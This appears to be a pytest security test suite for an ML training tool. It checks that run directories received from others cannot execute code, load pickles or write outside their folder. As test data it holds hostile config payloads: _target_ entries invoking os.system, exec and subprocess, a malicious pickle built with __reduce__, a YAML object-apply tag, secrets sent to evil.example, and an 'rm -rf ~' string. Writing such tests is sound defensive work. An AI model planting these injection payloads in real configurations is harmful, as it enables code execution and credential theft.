"""Run directories of other people: what their files ask for happens only if the caller allows it."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import torch
from omegaconf import DictConfig, OmegaConf

from spo import cli
from spo.config.compose import compose
from spo.config.nodes import locate
from spo.config.trust import LIBRARY_TARGETS, Caller, check_trusted
from spo.errors import UserError
from spo.runs.resume import resumed_config
from spo.runs.saved_config import load_config, write_config
from spo.stages.evaluate import evaluate_command

ENDPOINT = ("judge=openai", "judge.model=m", "judge.key_variable=null")


@cache
def composed(overrides: tuple[str, ...]) -> DictConfig:
    return compose(["logger=record", *overrides], run_dir="run")


def received(folder: Path, *overrides: str) -> Path:
    """Write a run directory as somebody else sends it: a configuration, an identity, and a policy."""
    run = folder / "run"
    (run / "policy").mkdir(parents=True)
    (run / "checkpoints").mkdir()
    (run / "policy/config.json").write_text("{}")
    write_config(run, composed(overrides or ENDPOINT))
    (run / "identity.json").write_text("{}")
    return run


def spoil(run: Path, **values: Any) -> dict[str, Any]:
    """Set keys of the file ``composed.yaml``, with ``__`` for a dot, and return its content."""
    cfg = OmegaConf.load(run / "composed.yaml")
    for key, value in values.items():
        OmegaConf.update(cfg, key.replace("__", "."), value, force_add=True, merge=False)
    (run / "composed.yaml").write_text(OmegaConf.to_yaml(cfg))
    content: Any = OmegaConf.to_container(cfg, resolve=False)
    return content


def shell(marker: Path) -> dict[str, Any]:
    return {"_target_": "os.system", "command": f"touch {marker}"}


# --- hostile directories -------------------------------------------------------------------------------------------

# Name -> keys of composed.yaml, given the path of the marker file that the payload would make and a module that makes
# it when it is imported.
HOSTILE: dict[str, Callable[[Path, str], dict[str, Any]]] = {
    "loss": lambda marker, _: {"method__loss": shell(marker)},
    "callback": lambda marker, _: {"callbacks__x": shell(marker)},
    "logger": lambda marker, _: {"logger__x": shell(marker)},
    "source": lambda marker, _: {"data__source": shell(marker)},
    "regularizer": lambda marker, _: {"regularizer": shell(marker)},
    "reference": lambda marker, _: {"reference": shell(marker)},
    "schedule": lambda marker, _: {"alpha": shell(marker)},
    "optimizer": lambda marker, _: {"optimizer": shell(marker)},
    "scheduler": lambda marker, _: {"scheduler": shell(marker)},
    "strategy": lambda marker, _: {"strategy__plugin": shell(marker)},
    "trainer": lambda marker, _: {"trainer": shell(marker)},
    "trainer_plugins": lambda marker, _: {"trainer__plugins": [shell(marker)]},
    "initial_model": lambda marker, _: {"model__initial": shell(marker)},
    "judge": lambda marker, _: {"judge": shell(marker)},
    "evaluation": lambda marker, _: {"evaluation": shell(marker)},
    "reward": lambda marker, _: {
        "judge": {"_target_": "spo.evaluation.judges.reward_judge", "reward": shell(marker)},
    },
    "own_group": lambda marker, _: {"extra__x": shell(marker)},
    "argument": lambda marker, _: {"alpha__value": shell(marker)},
    "positional_argument": lambda marker, _: {
        "alpha": {"_target_": "spo.schedules.Constant", "_args_": [shell(marker)]},
    },
    "partial": lambda marker, _: {"optimizer": {**shell(marker), "_partial_": True}},
    "not_recursive": lambda marker, _: {"callbacks__x": {**shell(marker), "_recursive_": False}},
    "module_code": lambda _, module: {"callbacks__x": {"_target_": f"{module}.anything"}},
    "module_beside_ours": lambda _, module: {"callbacks__x": {"_target_": f"spo_{module}.anything"}},
    "alias": lambda marker, _: {"callbacks__x": {**shell(marker), "_target_": "logging.os.system"}},
    "through_our_module": lambda marker, _: {
        "callbacks__x": {**shell(marker), "_target_": "spo.runs.launch.os.system"},
    },
    "hydra_call": lambda marker, _: {
        "callbacks__x": {"_target_": "spo.stages.evaluate.instantiate", "config": shell(marker)},
    },
    "our_instantiate": lambda marker, _: {
        "callbacks__x": {"_target_": "hydra.utils.instantiate", "config": shell(marker)},
    },
    "our_locate": lambda _, module: {"callbacks__x": {"_target_": "spo.config.nodes.locate", "path": module}},
    "our_writer": lambda marker, _: {
        "callbacks__x": {"_target_": "spo.records.files.write_text", "file": str(marker), "text": "x"},
    },
    "our_json_writer": lambda marker, _: {
        "alpha": {"_target_": "spo.records.files.write_json", "file": str(marker), "value": 1},
    },
    "our_store": lambda marker, _: {
        "callbacks__x": {"_target_": "spo.evaluation.judges.pairwise.VerdictStore", "file": str(marker)},
    },
    "our_command_line": lambda marker, _: {"callbacks__x": {"_target_": "spo.cli.main", "argv": ["train"]}},
    "our_subprocess": lambda marker, _: {
        "callbacks__x": {"_target_": "spo.runs.provenance.subprocess.run", "args": ["touch", str(marker)]},
    },
    "method_of_ours": lambda marker, _: {
        "callbacks__x": {"_target_": "spo.records.store.Path.touch", "self": str(marker)},
    },
    "our_part_elsewhere": lambda marker, _: {
        "data__source": {"_target_": "spo.callbacks.Health", "path": str(marker)},
    },
    "builtin_exec": lambda marker, _: {
        "callbacks__x": {"_target_": "builtins.exec", "_args_": [f"open({str(marker)!r}, 'w')"]},
    },
    "builtin_open": lambda marker, _: {"callbacks__x": {"_target_": "builtins.open", "file": str(marker), "mode": "w"}},
    "pathlib": lambda marker, _: {"callbacks__x": {"_target_": "pathlib.Path.touch", "_args_": [str(marker)]}},
    "subprocess": lambda marker, _: {"callbacks__x": {"_target_": "subprocess.run", "args": ["touch", str(marker)]}},
    "copy": lambda marker, _: {"callbacks__x": {"_target_": "shutil.copy", "src": "/etc/hosts", "dst": str(marker)}},
    "torch_load": lambda marker, _: {
        "callbacks__x": {"_target_": "torch.load", "f": f"{marker.parent}/evil.pt", "weights_only": False},
    },
    "torch_hub": lambda marker, _: {
        "callbacks__x": {
            "_target_": "torch.hub.load",
            "repo_or_dir": str(marker.parent),
            "model": "evil",
            "source": "local",
        },
    },
    "torch_compile_alias": lambda marker, _: {"optimizer": {**shell(marker), "_target_": "torch.optim.os.system"}},
    "numpy_pickle": lambda marker, _: {
        "callbacks__x": {"_target_": "numpy.load", "file": f"{marker.parent}/evil.npy", "allow_pickle": True},
    },
    "joblib": lambda marker, _: {"callbacks__x": {"_target_": "joblib.load", "filename": f"{marker.parent}/evil.pkl"}},
    "lightning_checkpoint": lambda marker, _: {
        "callbacks__x": {
            "_target_": "lightning.fabric.utilities.cloud_io._load",
            "path_or_url": f"{marker.parent}/evil.pt",
        },
    },
    "model_of_transformers": lambda marker, _: {
        "model__initial": {
            "_target_": "transformers.AutoModel.from_pretrained",
            "pretrained_model_name_or_path": str(marker.parent),
            "trust_remote_code": True,
        },
    },
    "interpolated_target": lambda marker, _: {
        "tags": ["os.system"],
        "callbacks__x": {**shell(marker), "_target_": "${tags.0}"},
    },
    "target_from_the_environment": lambda marker, _: {"callbacks__x": {**shell(marker), "_target_": "${oc.env:EVIL}"}},
    "referenced_node": lambda marker, _: {"extra": shell(marker), "callbacks__x": "${extra}"},
    "created_node": lambda marker, _: {
        "callbacks__x": f"${{oc.create:{{_target_:os.system,command:'touch {marker}'}}}}",
    },
    "decoded_node": lambda marker, _: {
        "tags": [f"{{_target_: os.system, command: 'touch {marker}'}}"],
        "callbacks__x": "${oc.decode:${tags.0}}",
    },
    "moving_node": lambda marker, _: {"extra__a0": shell(marker), "callbacks__x": "${oc.select:extra.a${now:%f},null}"},
    "named_resolver": lambda marker, _: {"tags": ["oc", "create"], "callbacks__x": "${${tags.0}.${tags.1}:{}}"},
    "remote_code": lambda *_: {"model__trust_remote_code": True},
    "remote_code_by_interpolation": lambda *_: {"tags": [True], "model__trust_remote_code": "${tags.0}"},
    "remote_code_as_number": lambda *_: {"judge__trust_remote_code": 1},
    "alarms_elsewhere": lambda marker, _: {"callbacks__health__path": str(marker)},
    "alarms_above": lambda *_: {"callbacks__health__path": "${paths.run}/../marker"},
    "alarms_in_the_current_folder": lambda *_: {"callbacks__health__path": "marker"},
    "checkpoints_elsewhere": lambda marker, _: {"callbacks__checkpoint__dirpath": str(marker)},
    "checkpoints_at_home": lambda *_: {"callbacks__checkpoint__dirpath": "~/marker"},
    "checkpoints_in_a_bucket": lambda *_: {"callbacks__checkpoint__dirpath": "s3://bucket/marker"},
    "checkpoint_of_lightning": lambda *_: {
        "callbacks__x": {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "filename": "../../marker"},
    },
    "logs_elsewhere": lambda marker, _: {
        "logger__x": {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": str(marker)},
    },
    "root_of_the_trainer": lambda marker, _: {"trainer__default_root_dir": str(marker)},
    "verdicts_elsewhere": lambda marker, _: {"judge__cache": str(marker)},
    "cache_in_a_folder_of_something_else": lambda marker, _: {"paths__cache": str(marker.parent)},
    "positional_path": lambda *_: {"callbacks__health": {"_target_": "spo.callbacks.Health", "_args_": ["../marker"]}},
    "positional_folder": lambda *_: {
        "trainer__profiler": {"_target_": "lightning.pytorch.profilers.SimpleProfiler", "_args_": ["marker"]},
    },
    "environment_to_another_server": lambda *_: {
        "tags": ["${oc.env:EVIL}"],
        "judge__base_url": "http://evil.example/v1",
        "judge__request": {"headers": {"X": "${tags.0}"}},
    },
    "key_to_another_server": lambda *_: {"judge__key_variable": "PATH", "judge__base_url": "http://evil.example/v1"},
    "yaml_object": lambda *_: {},  # written below
}


@pytest.fixture
def payload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    """Return a marker file, and a module on the path that makes it; pickles beside the marker make it too."""
    folder, work = tmp_path / "elsewhere", tmp_path / "work"
    folder.mkdir()
    work.mkdir()
    marker = folder / "marker"
    (folder / "other.txt").touch()
    (folder / "evil_code.py").write_text(f"open({str(marker)!r}, 'w')\n")
    (folder / "spo_evil_code.py").write_text(f"open({str(marker)!r}, 'w')\n")
    (folder / "hubconf.py").write_text(f"open({str(marker)!r}, 'w')\ndef evil(): pass\n")

    class Evil:
        def __reduce__(self) -> Any:
            return os.system, (f"touch {marker}",)

    torch.save(Evil(), folder / "evil.pt")
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setenv("EVIL", "os.system")
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.chdir(work)
    return marker, "evil_code"


@pytest.mark.parametrize("case", HOSTILE)
def test_a_received_directory_runs_only_what_is_ours(case: str, payload: tuple[Path, str], tmp_path: Path) -> None:
    marker, module = payload
    run = received(tmp_path, *(["judge=reward_model", "judge.path=m"] if case == "remote_code_as_number" else []))
    spoil(run, **HOSTILE[case](marker, module))
    if case == "yaml_object":
        with (run / "composed.yaml").open("a") as file:
            file.write(f"x: !!python/object/apply:os.system ['touch {marker}']\n")
    before = sorted(path.relative_to(tmp_path) for path in tmp_path.rglob("*") if "__pycache__" not in path.parts)
    for command in (resumed_config, evaluate_command):
        with pytest.raises(UserError) as caught:
            command(run, [])  # type: ignore[operator]
        assert "\n" not in str(caught.value), caught.value
        if case != "yaml_object":
            assert "if you trust it, add" in str(caught.value)
    after = sorted(path.relative_to(tmp_path) for path in tmp_path.rglob("*") if "__pycache__" not in path.parts)
    assert before == after and not marker.exists()
    assert module not in sys.modules and f"spo_{module}" not in sys.modules


@pytest.mark.parametrize(
    "place", ["history.jsonl", "checkpoints", "checkpoints/last.ckpt", "evaluations", ".lock", "wandb"]
)
def test_a_link_out_of_a_received_directory_is_refused(place: str, tmp_path: Path) -> None:
    run = received(tmp_path)
    target = tmp_path / "mine"
    target.write_text("mine")
    if (run / place).is_dir():
        (run / place).rmdir()
    (run / place).symlink_to(target)
    with pytest.raises(UserError, match=rf"a link out of it \({place} to {target}\).*--allow {target}"):
        resumed_config(run, [])
    assert target.read_text() == "mine"
    (run / "policy/copy").symlink_to("config.json")  # A link that stays inside is fine.
    assert resumed_config(run, [], allow=[str(target)])


@pytest.mark.parametrize("own", ["wandb", "extrapolated/wandb"])
def test_links_of_wandb_to_its_logs_are_no_reason_for_a_refusal(own: str, tmp_path: Path) -> None:
    run = received(tmp_path)
    logs = run / own / "offline-run-1/logs"
    logs.mkdir(parents=True)
    (logs / "debug-core.log").symlink_to(tmp_path / "core-debug.log")
    assert resumed_config(run, [])


def test_links_of_wandb_where_its_client_writes_are_refused(tmp_path: Path) -> None:
    run = received(tmp_path)
    (run / "wandb").mkdir()
    (run / "wandb/superseded").symlink_to(tmp_path)
    with pytest.raises(UserError, match="a link out of it"):
        resumed_config(run, [])


def test_settings_of_wandb_in_a_received_directory_are_refused(tmp_path: Path) -> None:
    run = received(tmp_path)
    (run / "wandb").mkdir()
    (run / "wandb/settings").write_text("[default]\nbase_url = http://evil.example\n")
    with pytest.raises(UserError, match=r"has settings of W&B \(wandb/settings\).*--allow .*wandb/settings"):
        resumed_config(run, [])
    assert resumed_config(run, [], allow=[str(run / "wandb/settings")])


def test_a_message_about_a_received_directory_is_safe_to_read_and_to_copy(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = received(tmp_path)
    spoil(run, callbacks__x={"_target_": "\x1b[2Ja.b; rm -rf ~"})
    assert cli.main(["evaluate", str(run)]) == 1
    message = capsys.readouterr().err
    assert "\x1b" not in message and "add --allow '␛[2Ja.b; rm -rf ~' to the command" in message


# --- what the caller allows ----------------------------------------------------------------------------------------


def test_the_message_lists_what_was_refused_and_how_to_allow_it(tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, callbacks__x={"_target_": "mypkg.Mine"}, logger__y={"_target_": "other.Logger"})
    with pytest.raises(UserError) as caught:
        evaluate_command(run, [])
    assert str(caught.value) == (
        f"{run} may come from somebody else, and it runs mypkg.Mine as callbacks.x and runs other.Logger as logger.y; "
        "if you trust it, add --allow mypkg.Mine --allow other.Logger to the command"
    )


@pytest.mark.parametrize("allow", [["mypkg"], ["mypkg.Mine"], ["os", "mypkg.Mine"]])
def test_the_caller_allows_a_target_or_its_module(allow: list[str], tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, callbacks__x={"_target_": "mypkg.Mine"})
    check_trusted(load_config(run), run, Caller.of(allow=allow))
    for other in (["mypk"], ["mypkg.Mine.x"], ["mypkg.Min"], [""]):
        with pytest.raises(UserError, match=r"mypkg\.Mine"):
            check_trusted(load_config(run), run, Caller.of(allow=other))


def test_what_the_caller_names_needs_no_flag(tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, judge={"_target_": "spo.evaluation.judges.reward_judge", "reward": {"_target_": "mypkg.reward"}})
    for named in (["judge.reward._target_=mypkg.reward"], ["+judge.reward={_target_:mypkg.reward}"]):
        check_trusted(load_config(run), run, Caller.of(named))
    mine = tmp_path / "conf/judge"
    mine.mkdir(parents=True)
    (mine / "mine.yaml").write_text("reward:\n  _target_: mypkg.reward\n")
    check_trusted(load_config(run), run, Caller.of(config_dir=tmp_path / "conf"))
    (mine / "mine.yaml").write_text("reward:\n  _target_: mypkg.other\n")
    with pytest.raises(UserError, match=r"--allow mypkg\.reward"):
        check_trusted(load_config(run), run, Caller.of(config_dir=tmp_path / "conf"))


def test_another_judge_replaces_one_that_is_not_allowed(tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, judge={"_target_": "spo.evaluation.judges.reward_judge", "reward": {"_target_": "mypkg.reward"}})
    assert resumed_config(run, ["judge=none"]).judge.reward is None


@pytest.mark.parametrize(
    ("spoiled", "override"),
    [
        ({"model__trust_remote_code": True}, "model.trust_remote_code=true"),
        ({"judge__base_url": "http://mine/v1", "judge__key_variable": "PATH"}, "judge.base_url=http://mine/v1"),
    ],
)
def test_the_message_names_the_override_that_asks_again(spoiled: dict[str, Any], override: str, tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, **spoiled)
    with pytest.raises(UserError, match=re.escape(f"add {override} to the command")):
        check_trusted(load_config(run), run, Caller.of())
    check_trusted(load_config(run), run, Caller.of([override]))


def test_the_caller_allows_a_folder(tmp_path: Path) -> None:
    run = received(tmp_path)
    spoil(run, callbacks__checkpoint__dirpath=str(tmp_path / "scratch/checkpoints"))
    check_trusted(load_config(run), run, Caller.of(allow=[str(tmp_path / "scratch")]))
    with pytest.raises(UserError, match="writes outside its own folder"):
        check_trusted(load_config(run), run, Caller.of(allow=[str(tmp_path / "scratch/check")]))


def test_a_cache_of_ours_anywhere_is_used(tmp_path: Path, payload: tuple[Path, str]) -> None:
    run = received(tmp_path)
    for make in ("new", "empty", "used"):
        folder = tmp_path / make
        if make != "new":
            folder.mkdir()
        if make == "used":
            (folder / "sft").mkdir()
        spoil(run, paths__cache=str(folder))
        check_trusted(load_config(run), run, Caller.of())


@pytest.mark.parametrize(
    "overrides",
    [
        ["callbacks=samples", "logger=wandb"],
        ["method=dpo", "logger=csv", "judge=gold", "optimizer=sgd", "beta=cosine"],
        ["data=enumerable", "model=tabular", "strategy=ddp", "logger=tensorboard", "judge=gold"],
        ["model=hf_lora", "model.path=m", "data=jsonl", "data.path=x.jsonl", "judge=language_model", "judge.path=m"],
    ],
)
def test_runs_of_shipped_parts_need_no_flag(overrides: list[str], tmp_path: Path) -> None:
    run = received(tmp_path, *overrides)
    check_trusted(load_config(run), run, Caller.of())


def test_known_targets_of_other_packages_exist_and_need_no_flag(tmp_path: Path) -> None:
    from spo.config.nodes import locate

    run = received(tmp_path)
    for group, names in LIBRARY_TARGETS.items():
        for name in names:
            assert callable(locate(name)), name
            cfg = load_config(run)
            OmegaConf.update(cfg, f"{group}.x", {"_target_": name}, force_add=True)
            check_trusted(cfg, run, Caller.of())


def test_another_path_to_one_of_our_parts_is_that_part(tmp_path: Path) -> None:
    run = received(tmp_path)
    for target in ("spo.losses.spo.SPOLoss", "spo.losses.SPOLoss", "spo.losses.dpo.DPOLoss"):
        spoil(run, method__loss___target_=target)
        check_trusted(load_config(run), run, Caller.of())
    spoil(run, method__loss___target_="spo.losses.base.PreferenceLoss")
    with pytest.raises(UserError, match=r"PreferenceLoss as method\.loss"):
        check_trusted(load_config(run), run, Caller.of())


# --- the folder that a person is in --------------------------------------------------------------------------------

# `python -m` itself imports warnings and contextlib from the current folder, before any code of a package.
SHADOWS = ("csv", "typing", "json", "html", "argparse", "logging")


def shadow(folder: Path) -> Path:
    """Write modules with the names of Python's own, which leave a file behind when they are imported."""
    for name in SHADOWS:
        (folder / f"{name}.py").write_text(
            f"open({str(folder / 'marker')!r}, 'a').write({name!r})\nraise SystemExit(9)\n"
        )
    return folder / "marker"


@pytest.mark.parametrize("command", [["-m", "spo"], [str(Path(sys.executable).with_name("spo"))]])
def test_files_of_the_current_folder_do_not_replace_those_of_python(command: list[str], tmp_path: Path) -> None:
    marker = shadow(tmp_path)
    path = os.environ.get("PYTHONPATH")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [path, str(Path(cli.__file__).parents[1])]))}
    done = subprocess.run(
        [sys.executable, *command, "report", "."], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert not marker.exists() and done.returncode == 1
    assert "is not a run directory" in done.stderr and "Traceback" not in done.stderr


def test_a_missing_module_is_not_expected_in_a_folder_that_is_not_searched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ImportError, match="put the folder that holds it on PYTHONPATH"):
        locate("nowhere.Loss")
    monkeypatch.syspath_prepend(tmp_path)
    with pytest.raises(ImportError, match="is the folder that holds it the current one"):
        locate("nowhere.Loss")


@pytest.mark.parametrize(
    ("command", "is_added"),
    [("train", True), ("inspect", True), ("verify", True), ("evaluate", False), ("report", False), ("compare", False)],
)
def test_the_current_folder_comes_last_and_only_where_a_target_may_lie_in_it(
    command: str, is_added: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    before = list(sys.path)
    seen: list[list[str]] = []
    monkeypatch.setitem(cli.RUN, command, lambda arguments: seen.append(list(sys.path)) or 0)
    assert cli.main([command]) == 0
    assert seen == [[*before, str(tmp_path)] if is_added else before]
